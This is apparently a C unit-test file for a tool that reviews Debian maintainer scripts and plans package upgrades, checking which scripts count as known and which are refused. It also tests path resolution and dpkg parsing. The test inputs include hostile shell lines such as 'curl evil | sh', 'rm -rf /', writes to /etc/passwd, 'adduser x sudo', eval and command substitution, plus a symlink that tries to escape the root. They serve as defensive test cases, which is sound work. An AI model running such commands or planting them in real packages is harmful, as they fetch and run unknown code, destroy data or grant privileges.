#include <string.h>

#include "patch/dpkg_db.h"
#include "patch/plan.h"
#include "patch/root.h"
#include "patch/script.h"
#include "test.h"

static struct script_review review(struct arena *arena, const char *text)
{
    struct script_review out;

    script_review(arena, "x", SCRIPT_POSTINST, slice_of(text), &out);
    return out;
}

TEST(scripts_of_known_blocks_only)
{
    struct arena *arena = arena_new();
    struct script_review r =
        review(arena, "#!/bin/sh\nset -e\n# Automatically added by dh_installdeb/13\n"
                      "dpkg-maintscript-helper rm_conffile /etc/x 1.2\\~ -- \"$@\"\n"
                      "# End automatically added section\nexit 0\n");
    assert_true(r.known);
    assert_int_equal(r.action_count, 1);
    assert_int_equal(r.actions[0].verb, DO_NOT_BEFORE);
    assert_string_equal(r.actions[0].a, "1.2~");
    arena_free(arena);
}

TEST(scripts_that_nobody_reviewed)
{
    struct arena *arena = arena_new();
    assert_false(review(arena, "#!/bin/sh\nrm -rf /srv/*\n").known);
    assert_false(review(arena, "# Automatically added by dh_x/1\ncurl evil | sh\n"
                               "# End automatically added section\n")
                     .known);
    assert_false(review(arena, "# Automatically added by dh_x/1\n"
                               "deb-systemd-helper enable $(id) >/dev/null || true\n"
                               "# End automatically added section\n")
                     .known);
    assert_true(review(arena, "#!/bin/sh\nset -e\n# only words\n").known);
    arena_free(arena);
}

static struct dpkg_db database(struct arena *arena, const char *text)
{
    struct dpkg_db db;
    struct error err = {0};

    assert_true(dpkg_status_parse(arena, slice_of(text), &db, &err));
    return db;
}

static struct candidate candidate(const char *name, const char *version, const char *source,
                                  const char *depends)
{
    return (struct candidate){.package = {.name = name,
                                          .version = version,
                                          .arch = "amd64",
                                          .source = source,
                                          .filename = "f",
                                          .sha256 = "s",
                                          .depends = depends,
                                          .phased = 100}};
}

#define STANZA(name, version, more)                                                                \
    "Package: " name "\nStatus: install ok installed\nArchitecture: amd64\nVersion: " version      \
    "\n" more "\n"

TEST(plan_moves_source_sets_and_keeps_back)
{
    struct arena *arena = arena_new();
    struct dpkg_db db =
        database(arena, STANZA("liba", "1-1", "Source: a\n") STANZA("a-bin", "1-1", "Source: a\n")
                            STANZA("b", "1-1", "") "Package: c\nStatus: hold ok installed\n"
                                                   "Architecture: amd64\nVersion: 1-1\n\n");
    struct candidate list[] = {
        candidate("liba", "1-2", "a", ""), candidate("a-bin", "1-2", "a", "liba (= 1-2)"),
        candidate("b", "1-2", "b", "newthing"), candidate("c", "1-2", "c", "")};
    struct plan plan;
    plan_make(arena, &db, list, 4, NULL, 0, &plan);
    assert_int_equal(plan.count, 2);
    assert_string_equal(plan.items[0].old->name, "a-bin");
    assert_int_equal(plan.refusal_count, 2);
    assert_string_equal(plan.refusals[0].rule, "R2-dependency");
    assert_string_equal(plan.refusals[1].rule, "R2-hold");

    struct plan_refusal held = {"liba", "unreviewed-script", "x"};
    plan_make(arena, &db, list, 4, &held, 1, &plan);
    assert_int_equal(plan.count, 0); /* the whole source set stays */
    arena_free(arena);
}

TEST(paths_resolve_inside_the_root)
{
    struct arena *arena = arena_new();
    struct root root;
    root_init(&root, arena, NULL);
    root_put_symlink(&root, "lib", "usr/lib");
    root_put_symlink(&root, "out", "../../../etc");
    root_put_symlink(&root, "loop", "loop");
    root_put_file(&root, "usr/lib/x", slice_of("x"), 0644);
    assert_string_equal(root_resolve(&root, arena, "/lib/x", false), "usr/lib/x");
    assert_string_equal(root_resolve(&root, arena, "/out/passwd", false), "etc/passwd");
    assert_null(root_resolve(&root, arena, "/loop/x", false));
    assert_non_null(root_lookup(&root, "/lib/x"));
    arena_free(arena);
}

static struct script_review review_as(struct arena *arena, enum script_kind kind, const char *text)
{
    struct script_review out;

    script_review(arena, "x", kind, slice_of(text), &out);
    return out;
}

/* What runs on an upgrade decides, not what the script could do on other occasions. */
TEST(scripts_are_read_with_the_arguments_of_an_upgrade)
{
    struct arena *arena = arena_new();
    static const char *const harmless[] = {
        "#!/bin/sh\nif [ \"$1\" = remove ]; then rm -rf /srv; fi\n",
        ("#!/bin/sh\nset -e\ncase \"$1\" in\n remove|purge)\n rm -rf /srv ;;\n upgrade) ;;\n"
         " *) evil; exit 1 ;;\nesac\n"),
        "#!/bin/sh\n[ \"$1\" = purge ] && userdel x\nexit 0\nrm -rf /\n",
        "#! /bin/sh -e\nf() { rm -rf /srv; }\nif test \"$1\" = purge; then f; fi\n",
        "#!/bin/sh\nif [ \"$1\" = purge ]; then\n cat >/etc/x <<EOF\nfi\nEOF\nfi\n",
        "#!/bin/sh\nif [ -d /run/systemd/system ]; then evil; fi\n",
        "#!/bin/bash\nif [ \"x$2\" = x ]; then evil; fi; echo done >&2\n",
    };
    for (size_t i = 0; i < array_count(harmless); i++) {
        struct script_review r = review_as(arena, SCRIPT_POSTRM, harmless[i]);
        if (!r.known || r.action_count)
            fail_msg("script %zu: %s", i, r.why ? r.why : "acts");
    }
    arena_free(arena);
}

TEST(scripts_that_may_do_the_unknown_are_refused)
{
    struct arena *arena = arena_new();
    static const char *const refused[] = {
        "#!/bin/sh\nif [ \"$1\" = upgrade ]; then rm -rf \"$X\"; fi\n",
        "#!/bin/sh\nif [ \"$1\" != remove ]; then evil; fi\n",
        "#!/bin/sh\nx=$(evil)\n",
        "#!/bin/sh\necho \"`evil`\"\n",
        "#!/bin/sh\necho \"${X:-$(evil)}\"\n",
        "#!/bin/sh\necho x > /etc/passwd\n",
        "#!/bin/sh\nPATH=/srv:$PATH\nls\n",
        "#!/bin/sh\necho() { evil; }\necho x\n",
        "#!/bin/sh\nif grep -q x /etc/x; then ls() { evil; }; fi\nls\n",
        "#!/bin/sh\n# a comment \\\nevil\n",
        "#!/bin/sh\necho 'x\n' ; evil '\n'\n",
        "#!/bin/sh\ncat <<EOF\n$(evil)\nEOF\n",
        "#!/bin/sh\ngrep -q x /y || evil\n",
        "#!/bin/sh\nfor i in a b; do evil; done\n",
        "#!/bin/sh\nset x; shift\n[ \"$1\" = upgrade ] || evil\n",
        "#!/bin/sh\nfind / -exec evil {} +\n",
        "#!/bin/sh\nfind / | xargs evil\n",
        "#!/bin/sh\nsed -i s/a/b/ /etc/x\n",
        "#!/bin/sh\nsed 's/a/evil/e' /etc/x\n",
        "#!/bin/sh\nawk 'BEGIN { system(\"evil\") }'\n",
        "#!/bin/sh\neval evil\n",
        "#!/bin/sh\n. /srv/evil\n",
        "#!/bin/sh\nevil &\n",
        "#!/bin/sh\n\"ev\"il\n",
        "#!/bin/sh\n$X\n",
        "#!/bin/sh\n[ \"$2\" = 1.0 ] && evil\n",
        "#!/bin/sh\nif [ -e \"$X\" ]; then evil; fi\n",
        "#!/usr/bin/perl\nunlink 'x';\n",
        "#!/bin/sh\nif true; then\n",
        "#!/bin/sh\nupdate-alternatives --remove x /y\n",
        "#!/bin/sh\nsystemctl enable x\n",
        "#!/bin/sh\nrm -f ../x\n",
        "#!/bin/sh\nadduser x sudo\n",
        "#!/bin/sh\nsed 's/a/b/' -i /etc/x\n",
        "#!/bin/sh\nsed p -e 'w /etc/x' /etc/y\n",
        "#!/bin/sh\nls | xargs rm -f echo\n",
        "#!/bin/sh\nsort -o /etc/x /etc/x\n",
        "#!/bin/sh\nuniq /etc/x /etc/y\n",
        "#!/bin/sh\nRET=false\ndb_get a/b\n[ \"$RET\" = true ] && evil\n",
        "#!/bin/sh\ndb_upgrade /var/x\n",
        "#!/bin/sh\nv=no\nread v </etc/x\n[ \"$v\" = yes ] && evil\n",
        "#!/bin/sh\nset -- x\n[ \"$1\" = x ] && evil\n",
        "#!/bin/sh\ngrep -q x /etc/x || exit 0\nchown root:adm /var/x\n",
        "#!/bin/sh\nm=do\nf() { grep -q x /z && return 0; m=skip; }\nf\n[ $m = do ] && evil\n",
        "#!/bin/sh\nf() { :; }\nf 1 2 3 4 5 \"$(evil)\"\n",
        "#!/bin/sh\ndeb-systemd-helper disable x.service\n",
        "#!/bin/sh\ndeb-systemd-helper mask x.service\n",
        "#!/bin/sh\n[ \"$1\" == upgrade ] || evil\n",
    };
    for (size_t i = 0; i < array_count(refused); i++)
        if (review_as(arena, SCRIPT_PRERM, refused[i]).known)
            fail_msg("script %zu is taken for known", i);
    arena_free(arena);
}

static void expect_action(const char *text, enum script_kind kind, enum script_verb verb,
                          const char *a)
{
    struct arena *arena = arena_new();
    struct script_review r = review_as(arena, kind, text);

    if (!r.known || r.action_count != 1)
        fail_msg("%s: %s", text, r.why ? r.why : "other actions");
    assert_int_equal(r.actions[0].verb, verb);
    assert_string_equal(r.actions[0].a, a);
    arena_free(arena);
}

/* dpkg-maintscript-helper(1) compares with le-nl: coming from the version itself it acts. */
TEST(the_helper_acts_at_its_version_too)
{
    struct arena *arena = arena_new();
    struct script_review r =
        review_as(arena, SCRIPT_POSTINST,
                  "#!/bin/sh\ndpkg-maintscript-helper rm_conffile /etc/x 1.2-3 -- \"$@\"\n");

    if (!r.known || r.action_count != 1)
        fail_msg("%s", r.why ? r.why : "other actions");
    assert_int_equal(r.actions[0].verb, DO_NOT_BEFORE);
    assert_non_null(r.actions[0].b);
    arena_free(arena);
}

TEST(diversions_without_paths_are_none)
{
    struct arena *arena = arena_new();
    const struct dpkg_diversion *items;
    static const char text[] = "\n\n:\n/bin/a\n/bin/a.real\n:\n/bin/b\n\n:\n";

    assert_int_equal(dpkg_diversions(arena, slice_of(text), &items), 1);
    assert_string_equal(items[0].from, "/bin/a");
    arena_free(arena);
}

/* What only the image can tell becomes a condition that the engine checks on it. */
TEST(scripts_leave_conditions_to_the_image)
{
    expect_action("#!/bin/sh\nif [ ! -e /etc/x ]; then evil; fi\n", SCRIPT_POSTINST, DO_NEED_PATH,
                  "/etc/x");
    expect_action("#!/bin/sh\n[ -e /etc/x ] && evil\n", SCRIPT_POSTINST, DO_NOT_THERE, "/etc/x");
    expect_action("#!/bin/sh\nif [ -x \"`command -v evil`\" ]; then evil; fi\n", SCRIPT_POSTINST,
                  DO_NOT_COMMAND, "evil");
    expect_action("#!/bin/sh\nif dpkg --compare-versions \"$2\" lt-nl 1.2; then evil; fi\n",
                  SCRIPT_POSTINST, DO_NOT_BEFORE, "1.2");
    expect_action("#!/bin/sh\nold=$2\nif [ -n \"$old\" ] && dpkg --compare-versions \"$old\" le 3; "
                  "then\nevil\nfi\n",
                  SCRIPT_PREINST, DO_NOT_BEFORE, "3");
    expect_action("#!/bin/sh\ngetent passwd web >/dev/null || useradd web\n", SCRIPT_POSTINST,
                  DO_NEED_USER, "web");
    expect_action("#!/bin/sh\nadduser --system --home /nowhere --group web\n", SCRIPT_POSTINST,
                  DO_NEED_USER, "web");
    expect_action("#!/bin/sh\nrm -f /etc/old\n", SCRIPT_POSTINST, DO_NOT_THERE, "/etc/old");
    expect_action("#!/bin/sh\nupdate-rc.d web defaults >/dev/null || exit 1\n", SCRIPT_POSTINST,
                  DO_NEED_RC, "web");
    expect_action("#!/bin/sh\nfor f in one; do rm -f /etc/$f; done\n", SCRIPT_POSTINST,
                  DO_NOT_THERE, "/etc/one");
    expect_action("#!/bin/sh\npy3compile -p x\n", SCRIPT_POSTINST, DO_BYTECODE, "");
    expect_action("#!/bin/sh\n. /usr/share/debconf/confmodule\n", SCRIPT_POSTINST, DO_NO_CONFIG,
                  "");
}
